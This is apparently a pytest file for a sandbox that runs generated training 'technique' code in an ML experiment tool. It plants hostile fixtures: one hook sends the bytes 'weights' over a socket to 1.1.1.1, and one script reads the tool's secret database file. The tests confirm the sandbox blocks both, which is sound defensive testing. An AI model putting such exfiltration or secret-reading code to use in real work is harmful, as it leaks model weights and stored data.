"""Technique files (generated code) under the sandbox: `airlab techniques check` passes a good
file and fails a bad one with a one-line reason; a spec naming technique files runs every run
in the sandbox, stores an escaping run failed with the sandbox's reason and goes on; the file's
hash is in the run key and the code is kept under that hash."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from airlab.sandbox import protections, why_unsandboxed

pytestmark = pytest.mark.skipif(not protections().bubblewrap,
                                reason=f"no usable bubblewrap here: {why_unsandboxed()}")

GOOD = Path(__file__).parent / "good_technique.py"
AIRLAB = Path(sys.executable).parent / "airlab"

# Reaches for the network when the model is built: the sandbox refuses, the run is failed.
ESCAPE = '''
import socket

from airlab.techniques import Hooks, Technique, register


class PhoneHome(Hooks):
    def on_model(self, model):
        socket.create_connection(("1.1.1.1", 443), timeout=3).sendall(b"weights")
        return model


register(Technique("file_phone_home", "general", "sends the model out", hooks=PhoneHome,
                   workloads=("charlm",)))
'''

NO_RANGE = '''
from airlab.techniques import Hooks, Option, Technique, register


class Nothing(Hooks):
    pass


register(Technique("file_no_range", "general", "an option with no range",
                   options={"file_strength": Option(0.5, float)}, hooks=Nothing,
                   workloads=("charlm",)))
'''

READS_SECRETS = '''
import os

print(open(os.environ.get("AIRLAB_HOME", "/root") + "/airlab.db", "rb").read(64))
'''


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(AIRLAB), *args], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "COLUMNS": "200"})


@pytest.mark.slow  # ~8 s; CI runs the bad files through the same sandboxed check
def test_a_good_file_passes_the_check() -> None:
    r = _cli("techniques", "check", str(GOOD))
    assert r.returncode == 0, r.stdout + r.stderr
    assert "pass:" in r.stdout and "file_shrink_init" in r.stdout and "val_loss=" in r.stdout
    assert "yes network isolated" in r.stdout and "yes filesystem isolated" in r.stdout


@pytest.mark.parametrize(("source", "reason"), [
    (NO_RANGE, "numeric option 'file_strength' declares no range"),
    (READS_SECRETS, "No such file or directory"),
])
def test_a_bad_file_fails_with_one_line(tmp_path: Path, source: str, reason: str) -> None:
    home = Path(os.environ["AIRLAB_HOME"])
    home.mkdir(parents=True, exist_ok=True)
    (home / "airlab.db").write_bytes(b"SQLite format 3\x00 secret rows")
    f = tmp_path / "bad.py"
    f.write_text(textwrap.dedent(source))
    r = _cli("techniques", "check", str(f))
    assert r.returncode == 1, r.stdout + r.stderr
    fail = [line for line in r.stdout.splitlines() if line.startswith("fail:")]
    assert len(fail) == 1 and reason in fail[0], r.stdout
    assert "secret rows" not in r.stdout + r.stderr


def test_bad_input_exits_2(tmp_path: Path) -> None:
    r = _cli("techniques", "check", str(tmp_path / "missing.py"))
    assert r.returncode == 2 and "technique file not found" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1


def test_listing_still_works_without_a_subcommand() -> None:
    r = _cli("techniques")
    assert r.returncode == 0 and "--use_muon" in r.stdout


@pytest.mark.slow  # six sandboxed runs, each a fresh Python that imports torch (~5-10 s each)
def test_a_spec_with_technique_files_runs_in_the_sandbox(tmp_path: Path) -> None:
    from airlab.executors.inprocess import InProcessExecutor
    from airlab.experiment import run_experiment
    from airlab.settings import get_settings
    from airlab.spec import load_spec
    from airlab.store import Store
    from airlab.techniques.base import file_digest

    folder = tmp_path / "exp"
    (folder / "techniques").mkdir(parents=True)
    shutil.copy(GOOD, folder / "techniques" / "shrink.py")
    (folder / "techniques" / "escape.py").write_text(ESCAPE)
    (folder / "spec.yaml").write_text(textwrap.dedent("""
        name: file_techniques
        workload: charlm
        preset: tiny
        budget: {tokens: 10000}
        seeds: [42, 137]
        techniques: [techniques/shrink.py, techniques/escape.py]
        options: {n_layer: 1, n_embd: 32, n_head: 2, block_size: 32, eval_points: 2,
                  eval_tokens: 1024, warmup_steps: 5}
        arms:
          - {name: shrink, use: [file_shrink_init], options: {file_init_scale: 0.7}}
          - {name: escape, use: [file_phone_home]}
    """))
    spec = load_spec(folder / "spec.yaml")
    assert spec.techniques == [str(folder / "techniques" / "shrink.py"),
                               str(folder / "techniques" / "escape.py")]
    settings = get_settings()
    store = Store(settings.db_url)
    # The executor given is replaced: a run of generated code trains in the sandbox, measured by
    # a worker of the local pool that never imports it.
    out = run_experiment(spec, store, InProcessExecutor(settings=settings), settings=settings,
                         rate=False)
    exp = store.experiment("file_techniques")
    assert exp is not None
    rows = store.runs(exp["id"])
    by_arm: dict[str, list[dict]] = {}
    for r in rows:
        by_arm.setdefault(r["arm"], []).append(r)
    assert len(rows) == 6 and out.runs.failed == 2
    for arm in ("baseline", "shrink"):
        assert [r["state"] for r in by_arm[arm]] == ["finished", "finished"], by_arm[arm]
    # Every run is measured by the harness (in the sandbox); each imports only its own files.
    assert all(r["info"]["generated_code"] == {"file_shrink_init": file_digest(
        folder / "techniques" / "shrink.py")} for r in by_arm["shrink"])
    assert all(r["info"]["sandbox"] and r["info"]["generated_code"] == {}
               for r in by_arm["baseline"])
    for r in by_arm["escape"]:
        assert r["state"] == "failed" and "Network is unreachable" in r["reason"], r["reason"]
        assert "\n" not in r["reason"]
    # The hash of the file is in the run key; the code is kept under that hash.
    digest = file_digest(folder / "techniques" / "shrink.py")
    assert all(r["config"]["code"] == {"file_shrink_init": digest} for r in by_arm["shrink"])
    kept = settings.home / "techniques" / f"{digest}.py"
    assert kept.read_bytes() == GOOD.read_bytes()
    store.close()


@pytest.mark.slow  # ~9 s; CI keeps test_sandbox's escapes and test_integrity's attack runs
def test_an_escaping_run_is_failed_and_the_next_run_goes_on(tmp_path: Path) -> None:
    """The executor alone (what the experiment above uses): the escaping job comes back
    failed with the sandbox's reason, the job after it finishes."""
    from airlab.executors.base import Job
    from airlab.executors.sandboxed import SandboxedExecutor
    from airlab.plan import resolve
    from airlab.settings import get_settings
    from airlab.techniques.contract import register_technique_files

    escape = tmp_path / "escape.py"
    escape.write_text(ESCAPE)
    register_technique_files([escape, GOOD])
    micro = {"n_layer": 1, "n_head": 2, "n_embd": 32, "block_size": 32, "batch_size": 8,
             "warmup_steps": 2, "eval_points": 1, "eval_tokens": 512}
    jobs = [Job(i, resolve(budget={"tokens": 2048}, use=[t], options=micro).to_dict())
            for i, t in enumerate(["file_phone_home", "file_shrink_init"])]
    ex = SandboxedExecutor(get_settings(), [escape, GOOD], threads=1)
    results = {job.id: res for job, res in ex.run(jobs)}
    assert results[0].state == "failed" and "Network is unreachable" in (results[0].reason or "")
    assert results[1].state == "finished", results[1].reason
    # on_finish ran inside the sandbox: what it reports is kept aside, never as a metric.
    assert results[1].info["reported"]["file_init_scale"] == 0.5
    assert "file_init_scale" not in results[1].metrics


def test_changed_code_is_a_new_run_key(tmp_path: Path) -> None:
    from airlab.plan import plan_runs
    from airlab.spec import ExperimentSpec

    f = tmp_path / "mine.py"
    keys = []
    for scale in ("0.5", "0.25"):
        f.write_text(GOOD.read_text().replace("Option(0.5,", f"Option({scale},"))
        spec = ExperimentSpec(name="key", budget={"tokens": 4096}, seeds=[1],
                              techniques=[str(f)], arms=[{"name": "a",
                                                          "use": ["file_shrink_init"]}])
        plans = plan_runs(spec)
        keys.append({p.arm: p.run_key for p in plans})
    assert keys[0]["baseline"] == keys[1]["baseline"]
    assert keys[0]["a"] != keys[1]["a"]


def test_without_isolation_a_spec_with_code_is_refused_unless_the_user_says_unsafe(
        tmp_path: Path) -> None:
    """No bubblewrap on PATH: `airlab check` refuses the spec in one line naming the flag;
    with the global --unsafe-no-sandbox the same check passes (limits only)."""
    folder = tmp_path / "exp"
    folder.mkdir()
    shutil.copy(GOOD, folder / "shrink.py")
    (folder / "spec.yaml").write_text(textwrap.dedent("""
        name: unsafe_check
        budget: {tokens: 4000}
        techniques: [shrink.py]
        arms:
          - {name: shrink, use: [file_shrink_init]}
    """))
    empty = tmp_path / "bin"
    empty.mkdir()  # a PATH where bwrap cannot be found
    env = {**os.environ, "PATH": str(empty), "COLUMNS": "200"}
    p = subprocess.run([str(AIRLAB), "check", str(folder / "spec.yaml")], capture_output=True,
                       text=True, timeout=300, env=env)
    assert p.returncode == 2, (p.stdout, p.stderr)
    lines = [ln for ln in p.stderr.splitlines() if ln.strip()]
    assert "--unsafe-no-sandbox" in " ".join(lines) and "Traceback" not in p.stderr, p.stderr
    q = subprocess.run([str(AIRLAB), "--unsafe-no-sandbox", "check", str(folder / "spec.yaml")],
                       capture_output=True, text=True, timeout=300, env=env)
    assert q.returncode == 0, (q.stdout, q.stderr)
